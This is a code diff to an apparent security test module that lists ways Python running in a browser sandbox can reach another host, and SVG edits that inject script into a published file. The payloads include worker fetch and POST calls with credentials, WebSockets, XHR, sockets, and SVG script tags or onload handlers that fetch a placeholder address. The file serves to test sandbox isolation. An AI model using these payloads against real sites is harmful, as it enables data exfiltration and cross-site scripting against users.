@@ -1,4 +1,4 @@
-"""Lines that try to leave the Python of the live site, to stay there, or to be run by who opens what they give."""
+"""Lines that try to leave the Python of the live site, to stay there, or to run where a result is opened."""
 
 from __future__ import annotations
 
@@ -13,6 +13,9 @@ from pyodide.code import run_js
 from pyodide.ffi import to_js
 
 ended = []
+
+def real_fetch(*asked):
+    return js.WorkerGlobalScope.prototype.fetch.call(js.self, *asked)
 
 def tried(name, attack):
     try:
@@ -32,18 +35,18 @@ def options(**given):
 
 WAYS = {
     # Of the report.
-    "fetch": "return js.WorkerGlobalScope.prototype.fetch.call(js.self, url)",
+    "fetch": "return real_fetch(url)",
     "cache-add": "return (await js.caches.open('x')).add(url)",
     "nested": "js.Worker.new(script(f'fetch({url!r})'))",
     "import": "js.eval(f'import({url!r})')",
     "font": "js.FontFace.new('x', f'url({url})').load()",
     # Of our own.
-    "fetch-post": "js.WorkerGlobalScope.prototype.fetch.call(js.self, url, options(method='POST', body='rows'))",
-    "fetch-no-cors": "js.WorkerGlobalScope.prototype.fetch.call(js.self, url, options(mode='no-cors', keepalive=True))",
-    "fetch-name": "js.WorkerGlobalScope.prototype.fetch.call(js.self, url.replace('127.0.0.1', 'localhost'))",
+    "fetch-post": "real_fetch(url, options(method='POST', body='rows'))",
+    "fetch-no-cors": "real_fetch(url, options(mode='no-cors', keepalive=True))",
+    "fetch-name": "real_fetch(url.replace('127.0.0.1', 'localhost'))",
     "fetch-nested-global": "js.Worker.new(script(f'self.fetch({url!r}, {{credentials: \"include\"}})'))",
     "xhr": "asked = js.XMLHttpRequest.new(); asked.open('GET', url, False); asked.send()",
-    "xhr-nested": "js.Worker.new(script(f'const x = new XMLHttpRequest(); x.open(\"GET\", {url!r}); x.send()'))",
+    "xhr-nested": "js.Worker.new(script(f'x = new XMLHttpRequest(); x.open(\"PUT\", {url!r}); x.send()'))",
     "websocket": "js.WebSocket.new(url.replace('http', 'ws', 1))",
     "websocket-nested": 'js.Worker.new(script(f\'new WebSocket({url!r}.replace("http", "ws"))\'))',
     "events": "js.EventSource.new(url)",
@@ -67,9 +70,9 @@ WAYS = {
     "pyfetch": "from pyodide.http import pyfetch; return await pyfetch(url)",
     "open-url": "from pyodide.http import open_url; open_url(url)",
     "urllib": "import urllib.request; urllib.request.urlopen(url, timeout=1)",
-    "socket": "import socket; socket.create_connection((js.URL.new(url).hostname, int(js.URL.new(url).port)), 1)",
+    "socket": "import socket; at = js.URL.new(url); socket.create_connection((at.hostname, int(at.port)), 1)",
     "service-worker": "return js.navigator.serviceWorker.register(url)",
-    "font-set": "face = js.FontFace.new('y', f'url({url})'); js.self.fonts.add(face); js.self.fonts.load('9px y')",
+    "font-set": "js.self.fonts.add(js.FontFace.new('y', f'url({url})')); js.self.fonts.load('9px y')",
     "canvas-filter": (
         "drawn = js.OffscreenCanvas.new(9, 9).getContext('2d'); drawn.filter = f'url({url}#x)';"
         " drawn.fillRect(0, 0, 9, 9)"
@@ -81,7 +84,7 @@ WAYS = {
     "location": "js.self.location = url",
     "location-href": "js.self.location.href = url",
     "open": "js.self.clients.openWindow(url)",
-    "stream": "return js.WebAssembly.compileStreaming(js.WorkerGlobalScope.prototype.fetch.call(js.self, url))",
+    "stream": "return js.WebAssembly.compileStreaming(real_fetch(url))",
 }
 """Ways to another host; `url` is an address there."""
 
@@ -215,7 +218,9 @@ PICTURES = {
     "script": """published.replace("</svg>", "<script>fetch('{there}')</script></svg>")""",
     "script elsewhere": """published.replace("</svg>", "<script href='{there}'/></svg>")""",
     "handler": """published.replace("<svg ", "<svg onload='fetch(`{there}`)' ", 1)""",
-    "picture elsewhere": """published.replace("</svg>", "<image href='{there}' width='9' height='9'/></svg>")""",
+    "picture elsewhere": (
+        """published.replace("</svg>", "<image href='{there}' width='9' height='9'/></svg>")"""
+    ),
     "old picture elsewhere": (
         """published.replace("</svg>", "<image xlink:href='{there}' width='9' height='9'/></svg>")"""
     ),
